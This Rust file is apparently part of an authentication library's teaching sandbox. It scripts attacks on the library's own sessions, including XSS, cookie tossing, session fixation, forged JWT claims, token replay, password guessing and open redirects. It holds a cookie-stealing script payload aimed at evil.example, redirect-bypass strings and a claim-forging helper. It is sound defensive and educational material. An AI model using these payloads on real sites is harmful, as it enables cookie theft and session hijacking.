//! The scenario of each attack. `learn/src/attacks` explains the same.

use crate::{attacks::AttackName, sandbox::Participant};
use axum::http::{HeaderValue, Request, header};
use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::{
    SandboxError,
    client::{ACCESS, FETCH_SITE, PreparedRequest, REFRESH, SandboxClient, decode_segment},
    flows::{expire_access_token, replay_after_window, sign_in_with},
    recorder::{PASSWORD, Recorder},
};

/// Names of accounts that a browser would run as scripts if a page wrote them unescaped.
const SCRIPTS_AS_NAMES: [&str; 2] = [
    "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "<img src=x onerror=\"location='//evil.example'\">",
];

/// The origin of another site on the same machine: a different name, so a different origin.
const OTHER_ORIGIN: &str = "http://127.0.0.1:8080";

/// Common passwords, none of them the right one.
const GUESSES: [&str; 4] = ["123456789", "ann-1984", "letmein!", "qwertyuiop"];

/// Values of `next` that lead to another site, and one that stays on this one.
const NEXT_TARGETS: [&str; 5] = [
    "//evil.example",
    "https://evil.example",
    "/\\evil.example",
    "%2F%2Fevil.example",
    "/account/sessions",
];

/// Runs that attack.
pub async fn run(attack: AttackName, recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    match attack {
        AttackName::ScriptInjection => script_injection(recorder).await,
        AttackName::CrossSite => cross_site(recorder).await,
        AttackName::CookieTossing => cookie_tossing(recorder).await,
        AttackName::SessionFixation => session_fixation(recorder).await,
        AttackName::TamperedToken => tampered_token(recorder).await,
        AttackName::ReplayInside => replay_inside(recorder).await,
        AttackName::ReplayAfter => replay_after(recorder).await,
        AttackName::Guessing => guessing(recorder).await,
        AttackName::OpenRedirect => open_redirect(recorder).await,
        AttackName::Timing => timing(recorder).await,
    }
}

async fn script_injection(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    let mut browser = recorder.signed_up_browser().await?;
    recorder.excerpt_around("evil.example");
    for name in SCRIPTS_AS_NAMES {
        let request = browser.call("update_account", &[("name", name)]);
        recorder.record(&mut browser, request).await?;
        // So that the response of the page sets cookies.
        expire_access_token(recorder);
        let request = browser.navigate("/account");
        recorder.record(&mut browser, request).await?;
    }
    Ok(())
}

async fn cross_site(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    let mut browser = recorder.signed_up_browser().await?;
    recorder.excerpt_around("<h1>");
    for (site, origin) in [
        (Some("cross-site"), Some(OTHER_ORIGIN)),
        (None, Some(OTHER_ORIGIN)),
        (None, None),
    ] {
        let request = browser.submit("update_account", &[("name", "Mallory")])?;
        let request = with_header(
            with_header(request, FETCH_SITE, site)?,
            header::ORIGIN,
            origin,
        );
        recorder.record(&mut browser, request).await?;
    }
    recorder.excerpt_around("name=\"name\"");
    let request = browser.navigate("/account");
    recorder.record(&mut browser, request).await
}

async fn cookie_tossing(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    let mut browser = recorder.signed_up_browser().await?;
    let attacker = recorder.signed_up_attacker().await?;
    let (own, foreign) = (access_cookie(&browser)?, access_cookie(&attacker)?);
    let own = format!("{ACCESS}={own}");
    for line in [
        own.clone(),
        format!("monban_access={foreign}; {own}"),
        format!("{own}; {ACCESS}={foreign}"),
        format!("{ACCESS}={foreign}; {own}"),
    ] {
        let request = with_header(browser.ask("who_am_i")?, header::COOKIE, Some(&line));
        recorder.record(&mut browser, request).await?;
    }
    Ok(())
}

async fn session_fixation(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    recorder.signed_up_browser().await?;
    let mut attacker = recorder.signed_up_attacker().await?;
    let mut browser = attacker.copy_as(Participant::Browser);
    let request = browser.ask("who_am_i");
    recorder.record(&mut browser, request).await?;
    let request = sign_in_with(&browser, recorder, PASSWORD);
    recorder.record(&mut browser, request).await?;
    let request = browser.ask("who_am_i");
    recorder.record(&mut browser, request).await?;
    let request = attacker.ask("who_am_i");
    recorder.record(&mut attacker, request).await?;
    let request = attacker.call("refresh", &[]);
    recorder.record(&mut attacker, request).await
}

async fn tampered_token(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    let mut browser = recorder.signed_up_browser().await?;
    let mut attacker = browser.copy_as(Participant::Attacker);
    let admin = with_claim(access_cookie(&browser)?, "roles", json!(["admin"]))?;
    let refresh = browser
        .cookie(REFRESH)
        .ok_or(SandboxError::Missing("refresh token"))?;
    let later = with_claim(refresh, "gen", json!(9))?;

    attacker.set_cookie(ACCESS, &admin);
    let request = attacker.ask("who_am_i");
    recorder.record(&mut attacker, request).await?;
    attacker.set_cookie(REFRESH, &later);
    let request = attacker.call("refresh", &[]);
    recorder.record(&mut attacker, request).await?;
    let app = recorder.signed_in_app().await?;
    let token = app
        .access_token()
        .ok_or(SandboxError::Missing("access token"))?;
    let admin = with_claim(token, "roles", json!(["admin"]))?;
    let mut attacker = SandboxClient::new(Participant::Attacker);
    let request = attacker.get_with_token("/session", &admin);
    recorder.record(&mut attacker, request).await?;
    let request = browser.ask("who_am_i");
    recorder.record(&mut browser, request).await
}

async fn replay_inside(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    let mut browser = recorder.signed_up_browser().await?;
    let mut attacker = browser.copy_as(Participant::Attacker);
    let window = recorder.instance.settings().sessions.refresh_window;
    expire_access_token(recorder);
    let request = browser.call("refresh", &[]);
    recorder.record(&mut browser, request).await?;
    recorder.wait(window / 3);
    let request = attacker.call("refresh", &[]);
    recorder.record(&mut attacker, request).await?;
    let request = attacker.ask("who_am_i");
    recorder.record(&mut attacker, request).await?;

    // Both continue to use the session.
    expire_access_token(recorder);
    let request = browser.call("refresh", &[]);
    recorder.record(&mut browser, request).await?;
    let request = browser.ask("who_am_i");
    recorder.record(&mut browser, request).await?;
    recorder.wait(window);
    let request = attacker.call("refresh", &[]);
    recorder.record(&mut attacker, request).await
}

async fn replay_after(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    replay_after_window(recorder).await.map(drop)
}

async fn guessing(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    let mut browser = recorder.signed_up_browser().await?;
    let mut attacker = SandboxClient::new(Participant::Attacker);
    for password in GUESSES.into_iter().chain([PASSWORD]) {
        let request = sign_in_with(&attacker, recorder, password);
        recorder.record(&mut attacker, request).await?;
    }
    let request = sign_in_with(&browser, recorder, PASSWORD);
    recorder.record(&mut browser, request).await
}

async fn open_redirect(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    recorder.signed_up_browser().await?;
    for next in NEXT_TARGETS {
        let mut browser = SandboxClient::new(Participant::Browser);
        let form = [
            ("email", recorder.email.as_str()),
            ("password", PASSWORD),
            ("keep", "true"),
            ("next", next),
        ];
        let request = browser.submit("sign_in", &form);
        recorder.record(&mut browser, request).await?;
    }
    Ok(())
}

/// One refused sign-in of each kind, to read. [`super::timing`] measures many.
async fn timing(recorder: &mut Recorder<'_>) -> Result<(), SandboxError> {
    recorder.signed_up_browser().await?;
    let mut attacker = SandboxClient::new(Participant::Attacker);
    for email in [
        recorder.email.clone(),
        recorder.email.replacen("ann", "nobody", 1),
    ] {
        let form = [
            ("email", email.as_str()),
            ("password", GUESSES[0]),
            ("keep", "true"),
        ];
        let request = attacker.call("sign_in", &form);
        recorder.record(&mut attacker, request).await?;
    }
    Ok(())
}

fn access_cookie(client: &SandboxClient) -> Result<&str, SandboxError> {
    let token = client.cookie(ACCESS);
    token.ok_or(SandboxError::Missing("access token"))
}

/// The request with that header, or without it if there is no value.
fn with_header(
    mut request: Request<String>,
    name: header::HeaderName,
    value: Option<&str>,
) -> PreparedRequest {
    let headers = request.headers_mut();
    headers.remove(&name);
    if let Some(value) = value {
        let value = HeaderValue::try_from(value).map_err(axum::http::Error::from)?;
        headers.insert(name, value);
    }
    Ok(request)
}

/// The token with another value of that claim, under its original signature.
fn with_claim(token: &str, claim: &str, value: Value) -> Result<String, SandboxError> {
    let parts: Vec<_> = token.split('.').collect();
    let (Some(mut claims), [header, _, signature]) = (decode_segment(token, 1), parts.as_slice())
    else {
        return Err(SandboxError::Missing("claim"));
    };
    claims[claim] = value;
    let claims = URL_SAFE_NO_PAD.encode(claims.to_string());
    Ok(format!("{header}.{claims}.{signature}"))
}
